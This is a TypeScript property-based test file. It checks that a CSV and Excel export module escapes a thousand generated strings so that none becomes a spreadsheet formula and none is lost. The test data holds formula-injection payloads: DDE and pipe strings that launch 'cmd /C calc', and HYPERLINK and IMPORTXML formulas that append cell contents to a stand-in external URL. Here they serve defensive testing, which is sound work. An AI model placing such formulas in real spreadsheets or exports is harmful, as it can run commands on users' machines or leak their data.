import fc from 'fast-check';
import { expect, it } from 'vitest';
import { unprotected } from '@terezi/domain/grammar/sheet/sheet.ts';
import { unzip } from '../../testing/unzip.ts';
import { csvBytes, type SheetBatches } from './csv.ts';
import { xlsxBytes } from './xlsx.ts';

/** Beginnings of texts that a spreadsheet would compute, alone and behind characters that it skips. */
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://elsewhere.example?x="&A1,"x")',
  'IMPORTXML(CONCAT("https://elsewhere.example/",A1),"//a")',
  'SUM(1+9)*cmd',
  'DDE("cmd";"/C calc";"x")',
  '2+5+cmd|\' /C calc\'!A0";"x',
  'A1=2',
  '"=1"',
  '994 50 123 45 67',
];
const text = fc
  .tuple(fc.constantFrom(...SIGNS), fc.oneof(fc.constantFrom(...BODIES), fc.string()))
  .map(([sign, body]) => sign + body);
const TEXTS = fc.sample(text, { seed: 1, numRuns: 1_000 });

function sheet(): SheetBatches {
  async function* batches() {
    yield TEXTS.map((each, at) => [each, -at - 0.5]);
  }
  return { title: 'Siyahı', head: ['A', 'B'], batches: batches(), zone: 'Asia/Baku' };
}
async function whole(bytes: AsyncIterable<Buffer>): Promise<Buffer> {
  const pieces: Buffer[] = [];
  for await (const piece of bytes) pieces.push(piece);
  return Buffer.concat(pieces);
}

it('none of a thousand texts is a formula in CSV, and none is lost', async () => {
  const [, ...lines] = (await whole(csvBytes(sheet()))).toString('utf8').split('\r\n');
  const cells = lines.map((line) => {
    const at = line.lastIndexOf(';');
    const first = line.slice(0, at);
    return [/^"(.*)"$/s.exec(first)?.[1]?.replaceAll('""', '"') ?? first, line.slice(at + 1)] as const;
  });
  expect(cells.filter(([cell]) => !cell.startsWith("'"))).toEqual([]);
  expect(cells.map(([cell]) => unprotected(cell))).toEqual(TEXTS);
  // A negative number is a number.
  expect(cells.map(([, cell]) => cell)).toEqual(TEXTS.map((_, at) => String(-at - 0.5).replace('.', ',')));
});

it('none of a thousand texts is a formula in an Excel file', async () => {
  const xml = unzip(await whole(xlsxBytes(sheet()))).get('xl/worksheets/sheet1.xml') ?? '';
  expect(xml.match(/<c t="inlineStr"/g)).toHaveLength(TEXTS.length + 2);
  expect(xml).not.toMatch(/<f[ >]/);
  expect(xml.match(/<c s="\d"><v>-/g)).toHaveLength(TEXTS.length);
});
